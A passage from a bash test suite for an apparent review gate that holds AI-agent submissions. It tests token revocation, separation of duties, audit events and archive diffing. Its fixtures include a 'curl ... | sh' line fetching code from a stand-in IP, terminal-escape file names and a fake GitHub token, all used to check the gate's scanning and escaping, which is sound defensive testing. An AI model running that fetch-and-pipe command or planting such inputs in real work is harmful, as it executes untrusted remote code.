	expect_all '[(a["reviewer"], a["comment"]) for a in d["approvals"]]' "[('rev-1', 'looks right')]" \
		'(d["rejection"]["reviewer"], d["rejection"]["reason"])' "('rev-2', 'pipes a download into sh\x1b[31m\nsecond line')" \
		'bool(d["rejection"]["at"])' True \
		'[e["action"] for e in d["timeline"]][:3]' "['submit', 'scan.start', 'scan.finish']" \
		'len([e for e in d["timeline"] if e["action"].endswith(".refused")])' 7
	# airlock show: the same, printed and escaped.
	as "${REV[1]}" show "$S" >"$OUT" 2>"$ERR"
	expect_rc 0 "airlock show"
	expect_out_has "approvals that count (1)"
	grep -q '  rev-1  looks right$' "$OUT" || fail "show: no approval line with its comment"
	grep -A1 '^rejected$' "$OUT" | grep -qF '  rev-2  pipes a download into sh\x1b[31m\x0asecond line' ||
		fail "show: no rejection line with its reason, escaped"
	! grep -q $'\x1b' "$OUT" || fail "show printed a raw escape character"
	expect_out_has "timeline"
	grep -q '  alice  approve.refused  separation of duties: alice is the person agent agent-1 was launched for' "$OUT" ||
		fail "show: the timeline lacks the refused approval"
	grep -q '  ci-1  release.refused  submission' "$OUT" ||
		fail "show: the timeline lacks the refused release"
	grep -q '  admin  override.refused  only an unscannable' "$OUT" ||
		fail "show: the timeline lacks the refused override"
	# The agent: why its own submission was rejected, and nothing else.
	api GET "/v1/submissions/$S" "$AG"
	expect_code 200 "show for the submitting agent"
	expect_all 'repr(d["rejection"]["reason"])' "'pipes a download into sh\x1b[31m\nsecond line'" \
		'sorted(d["rejection"])' "['at', 'reason']" \
		'"approvals" in d or "timeline" in d' False
	as "$AG" show "$S" >"$OUT" 2>"$ERR"
	expect_rc 0 "airlock show by the agent"
	grep -A1 '^rejected$' "$OUT" | grep -qF 'pipes a download into sh\x1b' ||
		fail "show: the agent does not see the rejection's reason"
	expect_out_lacks "rev-2"
	expect_out_lacks "timeline"
	# Another agent: not its submission (404), and its own shows no record.
	api GET "/v1/submissions/$S" "$AG2"
	expect_code 404 "another agent's submission"
	echo 'print(1)' >ok.py
	held "$AG2" ok.py name=ok.py
	O=$SID
	api GET "/v1/submissions/$O" "$AG2"
	expect_code 200 "show of its own"
	expect_all '"rejection" in d or "approvals" in d or "timeline" in d' False
	grep -q 'pipes a download' "$OUT" && fail "another agent's show leaks the rejection"
	srv_stop
}

# Refused logins are events: no token, a malformed, unknown, revoked or
# expired token; GET /v1/events shows them to an auditor. A flood of bad
# tokens writes at most one event per (source, reason) a second, and every
# refusal is either an event or counted in one.
t_refused_logins_recorded_and_bounded() {
	local AUD BAD R EXP i n t0 t1
	srv_start
	mk_token auditor aud
	AUD=$TOK
	mk_token reviewer r-old
	R=$TOK
	api DELETE /v1/tokens/r-old "$ADMIN"
	expect_code 200 "revoke"
	api POST /v1/persons "$ADMIN" -H 'Content-Type: application/json' \
		--data-binary '{"name": "r-short"}'
	expect_code 201 "the person of the token of 1s"
	api POST /v1/tokens "$ADMIN" -H 'Content-Type: application/json' \
		--data-binary '{"role": "reviewer", "name": "r-short", "ttl": "1s"}'
	expect_code 201 "a token of 1s"
	EXP=$(tok_of_out)
	BAD=alk_$(printf 'A%.0s' $(seq 1 44))
	api GET /v1/submissions ""
	expect_code 401 "no token"
	api GET /v1/submissions "not-a-token"
	expect_code 401 "a malformed token"
	api GET /v1/submissions "$BAD"
	expect_code 401 "an unknown token"
	api GET /v1/submissions "$R"
	expect_code 401 "a revoked token"
	sleep 1.2
	api GET /v1/submissions "$EXP"
	expect_code 401 "an expired token"
	api GET '/v1/events?action=login.refused' "$AUD"
	expect_code 200 "GET /v1/events for an auditor"
	expect_all '[(e["actor"], e["detail"].split(" ")[0]) for e in d["events"]]' \
		"[(None, 'reason=no-token'), (None, 'reason=malformed-token'), (None, 'reason=unknown-token'), ('r-old', 'reason=revoked-token'), ('r-short', 'reason=expired-token')]" \
		'all(" source=127.0.0.1 route=list " in e["detail"] for e in d["events"])' True \
		'all(e["at"] and e["submission"] is None for e in d["events"])' True
	# Nobody else reads the whole record.
	api GET /v1/events "$EXP"
	expect_code 401 "GET /v1/events with an expired token"
	mk_token reviewer r-now
	api GET /v1/events "$TOK"
	expect_code 403 "GET /v1/events for a reviewer"
	# A flood: 400 requests with an unknown token, as fast as curl goes.
	t0=$(date +%s)
	args=()
	for i in $(seq 1 100); do args+=("$URL/v1/submissions"); done
	for i in 1 2 3 4; do
		curl -s -o /dev/null -H "Authorization: Bearer $BAD" "${args[@]}" ||
			fail "curl flood"
	done
	t1=$(date +%s)
	sleep 1.1
	api GET /v1/submissions "$BAD" # written: it carries the count
	expect_code 401 "an unknown token after the flood"
	api GET '/v1/events?action=login.refused&limit=1000' "$AUD"
	expect_code 200 "events after the flood"
	n=$(jsonq 'len([e for e in d["events"] if "reason=unknown-token" in e["detail"]])')
	[ "$n" -le $((t1 - t0 + 3)) ] ||
		fail "the flood of $((t1 - t0 + 1)) s wrote $n unknown-token events"
	[ "$n" -ge 2 ] || fail "the flood wrote $n unknown-token events"
	expect_all 'sum(1 + int(re.search(r"suppressed=(\d+)", e["detail"]).group(1)) + int(re.search(r"suppressed_other=(\d+)", e["detail"]).group(1)) for e in d["events"] if "reason=unknown-token" in e["detail"])' 402
	srv_stop
}

# ---- 9c. a token checked again when its decision is committed ------------------------

# slow_start METHOD PATH TOKEN BODYFILE: the request, in the background, by
# tests/slow_request.py in ./slow/: the headers go with "Expect:
# 100-continue", the body only once the test says so. Returns once the gate
# has admitted it (answered 100 Continue: Host, route, token and role
# checked), or fails.
slow_start() {
	local i
	rm -rf slow
	mkdir slow
	python3 "$ROOT/tests/slow_request.py" "$PORT" "$@" slow 2>slow/err &
	SLOW_PID=$!
	for i in $(seq 1 200); do
		[ -e slow/admitted ] && return 0
		[ -e slow/status ] && fail "the gate answered $(cat slow/status) before the body: $(cat slow/body)"
		alive "$SLOW_PID" || break
		sleep 0.05
	done
	fail "the slow request was not admitted within 10 s: $(cat slow/err)"
}

# slow_finish: the body goes; the final answer's status in $CODE, its body
# in $OUT.
slow_finish() {
	touch slow/go
	wait "$SLOW_PID" || fail "the slow request got no answer: $(cat slow/err)"
	CODE=$(cat slow/status)
	cp slow/body "$OUT"
}

# refused_logins: the admin's GET /v1/events?action=login.refused in $OUT.
refused_logins() {
	api GET '/v1/events?action=login.refused&limit=1000' "$ADMIN"
	expect_code 200 "GET /v1/events?action=login.refused"
}

# Issue 13, defect 6: revocation was checked only when a request started,
# so an approval whose body arrived after the reviewer's token was revoked
# was recorded and counted. The token is checked again in the transaction
# that records the decision: 401 "token revoked at ...", no approval, no
# approve event, a login.refused event (reason=revoked-token route=approve)
# on the submission's timeline, and the submission stands as before (held,
# 0 of 1), approvable by another reviewer.
t_revoked_during_approval() {
	local AG RV S
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token reviewer rev-mid
	RV=$TOK
	reviewers 1
	echo 'print("approved after all?")' >ok.py
	held "$AG" ok.py name=ok.py
	S=$SID
	view "$RV" "$S"
	printf '{"sha256": "%s", "ruleset": "%s", "comment": "late"}' "$SHA" "$RS" >approve.json
	slow_start POST "/v1/submissions/$S/approve" "$RV" approve.json
	api DELETE /v1/tokens/rev-mid "$ADMIN"
	expect_code 200 "revoke rev-mid while its approval waits for its body"
	slow_finish
	expect_code 401 "an approval whose body came after its token was revoked"
	expect_error_json "$RV"
	expect_all 'd["error"].startswith("token revoked at 20")' True
	standing "$S" held 0 1
	events "$S"
	expect_all 'len(E("approve")) + len(E("approved"))' 0 \
		'[(e["actor"], e["detail"].split(" ")[0]) for e in E("login.refused")]' \
		"[('rev-mid', 'reason=revoked-token')]" \
		'" route=approve " in E("login.refused")[0]["detail"]' True \
		'E("login.refused")[0]["detail"].endswith(" stage=commit")' True
	# Not approvable by that token afterwards either; another reviewer can.
	approve_raw "$RV" "$S" "$SHA" "$RS"
	expect_code 401 "an approval with the revoked token"
	approve_as "${REV[1]}" "$S"
	standing "$S" approved 1 1
	api GET "/v1/submissions/$S" "$ADMIN"
	expect_all '[a["reviewer"] for a in d["approvals"]]' "['rev-1']"
	srv_stop
}

# The same for expiry: an agent token of 2 s that expires while its upload
# waits for its body is refused when the submission would be committed
# (401 "token expired at ..."), and nothing is recorded: no submission, no
# submit event; the bytes left in the store are an object no row names.
t_expired_during_upload() {
	local AG i
	srv_start
	mk_token agent agent-short alice 2s
	AG=$TOK
	printf 'submitted too late\n' >late.txt
	slow_start POST "/v1/submissions?name=late.txt" "$AG" late.txt
	for i in $(seq 1 100); do
		api GET /v1/submissions "$AG"
		[ "$CODE" = 401 ] && break
		sleep 0.05
	done
	expect_code 401 "the agent's token of 2 s, 5 s later"
	slow_finish
	expect_code 401 "an upload whose body came after its token expired"
	expect_error_json "$AG"
	expect_all 'd["error"].startswith("token expired at 20")' True
	api GET /v1/submissions "$ADMIN"
	expect_all 'len(d["submissions"])' 0
	refused_logins
	expect_all '[(e["actor"], e["detail"].split(" ")[0]) for e in d["events"] if e["detail"].endswith(" stage=commit")]' \
		"[('agent-short', 'reason=expired-token')]"
	srv_stop
}

# Every state-changing route goes through the same check, not only
# decisions: an admin whose token is revoked while a token creation, a
# person registration or a rules reload waits for its body creates,
# registers and reloads nothing (401 each time).
t_revoked_during_admin_writes() {
	local A2 n
	srv_start
	mk_token admin adm-2
	A2=$TOK
	printf '{"name": "carol"}' >person.json
	slow_start POST /v1/persons "$A2" person.json
	api DELETE /v1/tokens/adm-2 "$ADMIN"
	expect_code 200 "revoke adm-2"
	slow_finish
	expect_code 401 "a person registered by a token revoked meanwhile"
	expect_all 'd["error"].startswith("token revoked at 20")' True
	api GET /v1/persons "$ADMIN"
	expect_all '"carol" in [p["name"] for p in d["persons"]]' False
	# Another admin token, revoked while its token creation and then its
	# reload wait (revoked once; the second request is admitted first).
	mk_token admin adm-3
	A2=$TOK
	printf '{"role": "reviewer", "name": "adm-2", "person": "adm-2"}' >token.json
	slow_start POST /v1/tokens "$A2" token.json
	api DELETE /v1/tokens/adm-3 "$ADMIN"
	expect_code 200 "revoke adm-3"
	slow_finish
	expect_code 401 "a token made by a token revoked meanwhile"
	api GET /v1/tokens "$ADMIN"
	n=$(jsonq 'len([t for t in d["tokens"] if t["person"] == "adm-2"])')
	expect_eq "$n" 1 "tokens of adm-2 (the revoked admin token only)"
	mk_token admin adm-4
	A2=$TOK
	# (a body, ignored: with none the request is whole at its headers)
	printf '{}' >reload.json
	slow_start POST /v1/rules/reload "$A2" reload.json
	api DELETE /v1/tokens/adm-4 "$ADMIN"
	expect_code 200 "revoke adm-4"
	slow_finish
	expect_code 401 "a reload by a token revoked meanwhile"
	api GET '/v1/events?action=rules.reload' "$ADMIN"
	expect_all 'len(d["events"])' 0
	refused_logins
	expect_all '[(e["actor"], e["detail"].split(" ")[0]) for e in d["events"] if e["detail"].endswith(" stage=commit")]' \
		"[('adm-2', 'reason=revoked-token'), ('adm-3', 'reason=revoked-token'), ('adm-4', 'reason=revoked-token')]"
	srv_stop
}

# ---- 10. expiry --------------------------------------------------------------------

t_hold_expiry() {
	local AG CI S K
	srv_init
	echo 'hold_expiry = 3s' >data/policy
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	echo 'hello' >a.txt
	submit "$AG" a.txt name=a.txt
	S=$SID
	local SHA_S=$SHA
	# A second one, approved while held: approved submissions do not expire.
	echo 'second' >b.txt
	submit "$AG" b.txt name=b.txt
	K=$SID
	wait_state "$K" held 10
	RS=$(jsonq 'd["scan"]["ruleset"]')
	view "${REV[1]}" "$K"
	approve_raw "${REV[1]}" "$K" "$SHA" "$RS"
	expect_code 200 "approve within the hold time"

	wait_state "$S" expired 10
	events "$S"
	expect_all '[e["action"] for e in d["events"]][-1]' expire \
		'[e["actor"] for e in E("expire")]' '[None]'
	view "${REV[1]}" "$S"
	approve_raw "${REV[1]}" "$S" "$SHA_S" "$RS"
	expect_code 403 "approve an expired submission"
	expect_error_json "${REV[1]}"
	as "${REV[1]}" approve "$S"
	expect_rc 1 "airlock approve of an expired submission"
	expect_err_has "expired"
	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
	expect_code 409 "release an expired submission"
	as "$ADMIN" reject "$S" -m "too late anyway"
	expect_rc 1 "airlock reject of an expired submission"
	standing "$S" expired 0 1
	standing "$K" approved 1 1
	as "$CI" release "$K"
	expect_rc 0 "release of the approved one after the hold time"
	srv_stop
}


# ---- every kind is reviewable: archives and bundles as trees ---------------------

# expect_under LINE MARK: in $OUT, the line after the first line holding
# LINE is a finding mark (^^^) holding MARK.
expect_under() {
	python3 - "$OUT" "$1" "$2" <<'EOF' || fail "no finding '$2' under the line '$1'"
import sys
L = open(sys.argv[1], encoding="utf-8", errors="replace").read().split("\n")
i = next(i for i, l in enumerate(L) if sys.argv[2] in l)
n = L[i + 1]
assert n.lstrip().startswith("^^^") and sys.argv[3] in n, n
EOF
}

# item_index PATH: the index in $OUT's items of the item PATH ("" if none).
item_index() {
	python3 -c 'import json, sys
d = json.load(open(sys.argv[1]))
print(next((i for i, it in enumerate(d["items"]) if it["path"] == sys.argv[2]), ""))' "$OUT" "$1"
}

# A tar.gz with a text member that pipes a download into a shell, a binary
# member, a member over the per-member cap and a member whose name drives
# the terminal: diff shows the tree, the text lines with the finding under
# the right line, the binary described and never dumped, the large one
# listed as not kept, the hostile name escaped.
t_diff_archive_tree() {
	local AG
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 1
	mkdir p
	curlsh_file p/run.sh
	chmod 755 p/run.sh
	printf 'BINMARK\0\1\2\3\0\0\0\0' >p/tool.bin
	printf 'hello\n' >p/$'evil\e[2Jname.txt'
	python3 -c 'import sys; sys.stdout.write("filler line\n" * 120000)' >p/big.txt
	tar -C p -czf x.tar.gz run.sh tool.bin big.txt $'evil\e[2Jname.txt' || fail "tar"
	held "$AG" x.tar.gz name=x.tar.gz
	expect_all 'd["kind"]' archive \
		'[(i["path"], i["content"]) for i in d["items"]]' \
		"[('x.tar.gz!/run.sh', 'kept'), ('x.tar.gz!/tool.bin', 'binary'), ('x.tar.gz!/big.txt', 'over-member-cap'), ('x.tar.gz!/evil\\x1b[2Jname.txt', 'kept')]"
	as "${REV[1]}" diff "$SID"
	expect_rc 0 "airlock diff of a tar.gz"
	expect_out_has "4 items:"
	grep -Eq '^  100755 +47 bytes  text/plain +[0-9a-f]{12}  x\.tar\.gz!/run\.sh$' "$OUT" ||
		fail "no tree line for run.sh (mode, size, type, short sha256, path)"
	grep -Eq '^  100644 +1\.4 MiB  text/plain +[0-9a-f]{12}  x\.tar\.gz!/big\.txt$' "$OUT" ||
		fail "no tree line for big.txt"
	expect_out_has "     2  curl -s https://198.51.100.23/x | sh"
	expect_under "     2  curl -s https://198.51.100.23/x | sh" "high test-curl-pipe-shell"
	expect_out_has "== x.tar.gz!/tool.bin  (application/octet-stream, 15 bytes, sha256 $(sha256sum <p/tool.bin | cut -c1-64))"
	expect_out_has "   binary content not shown"
	expect_out_lacks "BINMARK"
	expect_out_has "content not kept: larger than the 1 MiB kept of a member"
	expect_out_lacks "filler line"
	# The hostile name: escaped everywhere, its finding attached to it.
	! grep -q $'\e' "$OUT" || fail "diff printed a raw escape character"
	expect_out_has 'x.tar.gz!/evil\x1b[2Jname.txt'
	expect_out_has "     1  hello"
	python3 - "$OUT" <<'EOF' || fail "the name's finding is not listed under its member"
import sys
t = open(sys.argv[1]).read()
m = t.index("== x.tar.gz!/evil\\x1b[2Jname.txt")
assert "airlock.archive-path" in t[m:], "not after the member"
assert "airlock.archive-path" not in t[:m], "before the member"
EOF
	srv_stop
}

# A zip: the same tree and inline findings (a secret, critical).
t_diff_zip() {
	local AG
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 1
	mkdir z
	printf 'first line\n' >z/notes.txt
	pat_file z/config.env
	printf '\x7fELF\2\1\1\0\0\0\0\0\0\0\0\0' >z/helper
	(cd z && zip -q ../x.zip notes.txt config.env helper) || fail "zip"
	held "$AG" x.zip name=x.zip
	as "${REV[1]}" diff "$SID"
	expect_rc 0 "airlock diff of a zip"
	expect_out_has "3 items:"
	expect_out_has "== x.zip!/config.env  (text/plain, 54 bytes"
	expect_out_has "     1  GITHUB_TOKEN="
	expect_under "     1  GITHUB_TOKEN=" "critical test-github-pat"
	expect_out_has "     1  first line"
	expect_out_has "== x.zip!/helper"
	expect_out_has "   binary content not shown"
	srv_stop
}

# A directory (airlock submit DIR sends DIR.tar): its files as members.
t_diff_directory() {
	local AG S
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 1
	mkdir -p proj/scripts
	printf 'a readme\n' >proj/README.md
	curlsh_file proj/scripts/install.sh
	as "$AG" submit proj
	expect_rc 0 "airlock submit of a directory"
	S=$(grep -o '[0-9]\+' "$OUT" | head -n 1)
	wait_state "$S" held
	expect_all 'd["kind"]' archive 'd["name"]' proj.tar
	as "${REV[1]}" diff "$S"
	expect_rc 0 "airlock diff of a directory submission"
	expect_out_has "2 items:"
	grep -q 'proj\.tar!/.*scripts/install\.sh$' "$OUT" || fail "no tree line for install.sh"
	expect_out_has "     1  a readme"
	expect_under "     2  curl -s https://198.51.100.23/x | sh" "high test-curl-pipe-shell"
	srv_stop
}

# A git bundle of two commits: members are NAME!/<commit>!/path, each file
# version under the commit that brought it, with its findings inline.
t_diff_bundle() {
	local AG c1 c2
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 1
	git init -q -b main repo || fail "git init"
	printf 'version one\n' >repo/README.md
	git -C repo add -A && git -C repo -c user.name=A -c user.email=a@example.org commit -qm "first" || fail "commit 1"
	curlsh_file repo/setup.sh
	printf 'version two\n' >repo/README.md
	git -C repo add -A && git -C repo -c user.name=A -c user.email=a@example.org commit -qm "second" || fail "commit 2"
	c1=$(git -C repo rev-parse HEAD~1 | cut -c1-12)
	c2=$(git -C repo rev-parse HEAD | cut -c1-12)
	git -C repo bundle create -q ../x.bundle main || fail "git bundle"
	held "$AG" x.bundle name=x.bundle
	expect_all 'd["kind"]' bundle \
		"sorted(i['path'] for i in d['items'] if i['content'] == 'kept' and i['path'].count('!/') == 2) == sorted(['x.bundle!/$c1!/README.md', 'x.bundle!/$c2!/README.md', 'x.bundle!/$c2!/setup.sh'])" True
	as "${REV[1]}" diff "$SID"
	expect_rc 0 "airlock diff of a bundle"
	expect_out_has "== x.bundle!/$c2!/setup.sh  (text/plain"
	expect_under "     2  curl -s https://198.51.100.23/x | sh" "high test-curl-pipe-shell"
	python3 - "$OUT" "$c1" "$c2" <<'EOF' || fail "each README version is not under its commit"
import sys
t, c1, c2 = open(sys.argv[1]).read(), sys.argv[2], sys.argv[3]
a = t.index("== x.bundle!/%s!/README.md" % c1)
b = t.index("== x.bundle!/%s!/README.md" % c2)
assert t.index("     1  version one") > a and t.index("     1  version two") > b
EOF
	srv_stop
}

# GET /v1/submissions/ID/items/N/content: the kept bytes, for reviewers,
# auditors and admins only; a view.item event names the member; it is not
# the view of the artifact approval asks for; 404 without kept content.
t_item_content_endpoint() {
	local AG AU CI S RUN BINI
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	mk_token auditor aud-1
	AU=$TOK
	reviewers 1
	mkdir p
	curlsh_file p/run.sh
	printf 'BIN\0\0\0\1' >p/tool.bin
	tar -C p -cf x.tar run.sh tool.bin || fail "tar"
	held "$AG" x.tar name=x.tar
	S=$SID
	RUN=$(item_index x.tar!/run.sh)
	BINI=$(item_index x.tar!/tool.bin)
	[ -n "$RUN" ] && [ -n "$BINI" ] || fail "the items are not listed"
	api GET "/v1/submissions/$S/items/$RUN/content" "$AG"
	expect_code 403 "an agent reads a member"
	expect_error_json "$AG"
	api GET "/v1/submissions/$S/items/$RUN/content" "$CI"
	expect_code 403 "a ci token reads a member"
	api GET "/v1/submissions/$S/items/$RUN/content" ""
	expect_code 401 "no token"
	api GET "/v1/submissions/$S/items/$RUN/content" "$AU"
	expect_code 200 "an auditor reads a member"
	cmp -s "$OUT" p/run.sh || fail "the member's bytes differ from the file packed"
	api GET "/v1/submissions/$S/items/$RUN/content" "${REV[1]}"
	expect_code 200 "a reviewer reads a member"
	cmp -s "$OUT" p/run.sh || fail "the member's bytes differ from the file packed"
	api GET "/v1/submissions/$S/items/$BINI/content" "${REV[1]}"
	expect_code 404 "a binary member has no kept content"
	expect_error_json
	api GET "/v1/submissions/$S/items/99/content" "${REV[1]}"
	expect_code 404 "an item that does not exist"
	api GET "/v1/submissions/$S/items/01/content" "${REV[1]}"
	expect_code 404 "an index with a leading zero"
	api GET "/v1/submissions/$S/items/-1/content" "${REV[1]}"
	expect_code 404 "a negative index"
	# Reading a member is not reading the artifact: approval still waits.
	approve_raw "${REV[1]}" "$S" "$SHA" "$RS"
	expect_code 403 "approve after reading only a member"
	events "$S"
	# Each view.item says what was served: the item, whole, its bytes
	# and their sha256.
	expect_all '[(e["actor"], e["detail"].split(" ")[:4]) for e in E("view.item")]' \
		"[('aud-1', ['x.tar!/run.sh', 'item=$RUN', 'full', 'bytes=$(wc -c <p/run.sh)']), ('rev-1', ['x.tar!/run.sh', 'item=$RUN', 'full', 'bytes=$(wc -c <p/run.sh)'])]" \
		'len(E("view"))' 0
	view "${REV[1]}" "$S"
	approve_raw "${REV[1]}" "$S" "$SHA" "$RS"
	expect_code 200 "approve after reading the artifact"
	srv_stop
}

# A scan child that sends member bytes other than those it hashed: the
# gate keeps none of them and the artifact is unscannable, with the reason.
t_member_bytes_checked_by_the_gate() {
	local AG
	export AIRLOCK_TEST_CHILD_FAULT=membytes:x.tar
	srv_start
	unset AIRLOCK_TEST_CHILD_FAULT
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 1
	mkdir p
	curlsh_file p/run.sh
	tar -C p -cf x.tar run.sh || fail "tar"
	held "$AG" x.tar name=x.tar
	expect_all 'd["verdict"]' unscannable \
		'"do not match their sha256" in R("airlock.unscannable")[0]["excerpt"]' True \
		'[i["content"] for i in d["items"] if i["content"] == "kept"]' '[]'
	api GET "/v1/submissions/$SID/items/0/content" "${REV[1]}"
	expect_code 404 "a member whose bytes were refused"
	srv_stop
}

# ---- persons (issue 12) ----------------------------------------------------------

# person_add NAME: POST /v1/persons as the admin; $CODE.
person_add() {
	api POST /v1/persons "$ADMIN" -H 'Content-Type: application/json' \
		--data-binary "{\"name\": \"$1\"}"
}

# A person with two tokens counts once: bob's second approval of the same
# scan is refused (409, naming the rule), and the critical finding still
# needs a second person.
t_person_two_tokens_count_once() {
	local AG B1 B2 C
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	person_add bob
	expect_code 201 "person add bob"
	mk_token reviewer bob
	B1=$TOK
	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "reviewer", "name": "bob-laptop", "person": "BOB"}'
	expect_code 201 "a second token for bob"
	expect_q 'd["person"]' bob
	B2=$(tok_of_out)
	mk_token reviewer carol
	C=$TOK
	pat_file s.env
	held "$AG" s.env name=s.env
	standing "$SID" held 0 2
	approve_as "$B1" "$SID"
	view "$B2" "$SID"
	approve_raw "$B2" "$SID" "$SHA" "$RS"
	expect_code 409 "bob again, through bob-laptop"
	expect_error_json
	grep -q 'counts once' "$OUT" || fail "the refusal does not name the rule"
	grep -q 'bob' "$OUT" || fail "the refusal does not name the person"
	standing "$SID" held 1 2
	approve_as "$C" "$SID"
	standing "$SID" approved 2 2
	api GET /v1/persons "$ADMIN"
	expect_code 200 "GET /v1/persons"
	expect_q '[(p["name"], p["tokens"]) for p in d["persons"] if p["name"] == "bob"]' "[('bob', 2)]"
	srv_stop
}

# The launched-for person under any case, width or white-space variant of
# the name cannot approve, reject or release: the agent is launched for
# " ＡＬＩＣＥ " (fullwidth, spaces), which is the person alice.
t_person_launched_for_variants_refused() {
	local AG A1 A2 R
	srv_start
	person_add alice
	expect_code 201 "person add alice"
	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "agent", "name": "agent-w", "on_behalf_of": " \uff21\uff2c\uff29\uff23\uff25\u3000"}'
	expect_code 201 "an agent launched for a variant of alice"
	expect_q 'd["on_behalf_of"]' alice
	AG=$(tok_of_out)
	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "reviewer", "name": "alice.smith", "person": "Alice"}'
	expect_code 201 "alice's reviewer token"
	A1=$(tok_of_out)
	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "admin", "name": "alice-admin", "person": "  aLiCe "}'
	expect_code 201 "alice's admin token"
	A2=$(tok_of_out)
	reviewers 1
	R=${REV[1]}
	echo "hello" >h.txt
	held "$AG" h.txt name=h.txt
	for t in "$A1" "$A2"; do
		view "$t" "$SID"
		approve_raw "$t" "$SID" "$SHA" "$RS"
		expect_code 403 "alice approves what her agent submitted"
		expect_error_json
		grep -q 'separation of duties' "$OUT" || fail "the refusal does not name the rule"
		grep -q 'alice' "$OUT" || fail "the refusal does not name the person"
		api POST "/v1/submissions/$SID/reject" "$t" --data-binary '{"comment": "no"}'
		expect_code 403 "alice rejects what her agent submitted"
	done
	# An agent for an unregistered person is refused, clearly.
	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "agent", "name": "agent-x", "on_behalf_of": "mallory"}'
	expect_code 404 "an agent for nobody registered"
	grep -q 'no person named' "$OUT" || fail "the refusal does not say why"
	approve_as "$R" "$SID"
	standing "$SID" approved 1 1
	api POST "/v1/submissions/$SID/release" "$A2"
	expect_code 403 "alice releases what her agent submitted"
	grep -q 'separation of duties' "$OUT" || fail "the release refusal does not name the rule"
	# Nor may she override what her agent submitted and the gate could not
	# read (an encrypted zip), with her admin token; another admin may.
	echo secret >s.txt
	zip -q -P pw enc.zip s.txt || fail "zip"
	held "$AG" enc.zip name=enc.zip
	expect_all 'd["verdict"]' unscannable
	api POST "/v1/submissions/$SID/override" "$A2" --data-binary '{"reason": "I know it"}'
	expect_code 403 "alice overrides what her agent submitted"
	grep -q 'separation of duties' "$OUT" || fail "the override refusal does not name the rule"
	grep -q 'alice' "$OUT" || fail "the override refusal does not name the person"
	api POST "/v1/submissions/$SID/override" "$ADMIN" --data-binary '{"reason": "I know it"}'
	expect_code 200 "another person's override"
	srv_stop
}

# A name that differs only by NFKC case folding and trimming cannot be
# registered twice; a name the gate cannot normalise is refused.
t_person_nfkc_unique() {
	srv_start
	person_add "Zoë Ärger"
	expect_code 201 "person add"
	for v in "ZOË ÄRGER" " zoë  ärger " "\uff3a\uff4f\u00eb \u00c4rger" "zoë\u00a0ärger"; do
		person_add "$v"
		expect_code 409 "an NFKC-equivalent name: $v"
		expect_error_json
	done
	person_add "straße"
	expect_code 201 "person add straße"
	person_add "STRASSE"
	expect_code 409 "ß folds to ss"
	person_add "zoe\u0301"
	expect_code 400 "a combining mark is refused (cannot normalise faithfully)"
	grep -q 'U+0301' "$OUT" || fail "the refusal does not name the code point"
	person_add "   "
	expect_code 400 "an empty name"
	as "$ADMIN" person list
	expect_rc 0 "person list"
	expect_out_has "straße"
	# Disabling a person revokes their tokens and issues them no new one.
	mk_token reviewer zed
	as "$ADMIN" person disable ZED
	expect_rc 0 "person disable"
	expect_out_has "tokens revoked: 1"
	api GET /v1/submissions "$TOK"
	expect_code 401 "a disabled person's token"
	as "$ADMIN" person disable zed
	expect_rc 1 "disabled twice"
	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "reviewer", "name": "zed-2", "person": "zed"}'
	expect_code 409 "a token for a disabled person"
	srv_stop
}

# Review evidence: a one-byte range does not satisfy review (it is served,
# 206, and recorded as partial); a full fetch does.
t_review_needs_full_fetch() {
	local AG
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 1
	printf 'line one\nline two\n' >f.txt
	held "$AG" f.txt name=f.txt
	api GET "/v1/submissions/$SID/content" "${REV[1]}" -H 'Range: bytes=0-0'
	expect_code 206 "a one-byte range"
	[ "$(wc -c <"$OUT")" = 1 ] || fail "a one-byte range served $(wc -c <"$OUT") bytes"
	approve_raw "${REV[1]}" "$SID" "$SHA" "$RS"
	expect_code 403 "approve after a one-byte range"
	grep -q 'review evidence' "$OUT" || fail "the refusal does not name the rule"
	api GET "/v1/submissions/$SID/content" "${REV[1]}" -H 'Range: bytes=0-3,5-6'
	expect_code 416 "several ranges"
	view "${REV[1]}" "$SID"
	cmp -s "$OUT" f.txt || fail "the full fetch is not the bytes"
	approve_raw "${REV[1]}" "$SID" "$SHA" "$RS"
	expect_code 200 "approve after a full fetch"
	events "$SID"
	expect_all '[e["detail"].split(" ")[:2] for e in E("view")]' \
		"[['content', 'partial'], ['content', 'full']]" \
		'E("view")[1]["detail"].split(" ")[2:4]' "['bytes=$(wc -c <f.txt)', 'sha256=$SHA']"
	srv_stop
}

# Migration: a database made with the schema before persons (migrations
# 0001..0004), with tokens named alice, Alice-ish agents and bob: serving
# it maps one person per distinct name, says so in an event, and the old
# tokens work with the separation of duties by person.
t_person_migration_from_old_schema() {
	local AT RT AG
	AT=alk_$(python3 -c 'print("A" * 44)')
	RT=alk_$(python3 -c 'print("B" * 44)')
	AG=alk_$(python3 -c 'print("C" * 44)')
	srv_init
	rm -f data/airlock.db data/airlock.db-wal data/airlock.db-shm
	python3 - "$ROOT/db/migrations" data/airlock.db "$AT" "$RT" "$AG" <<'PY' || fail "cannot build the old database"
import glob, hashlib, os, sqlite3, sys
d, path, at, rt, ag = sys.argv[1:]
db = sqlite3.connect(path)
old = sorted(glob.glob(os.path.join(d, "000[1-4]_*.sql")))
assert len(old) == 4, old
for f in old:
    db.executescript(open(f).read())
db.execute("PRAGMA user_version = 4")
h = lambda t: hashlib.sha256(t.encode()).hexdigest()
rows = [("admin", "admin", h(at), None), ("bob", "reviewer", h(rt), None),
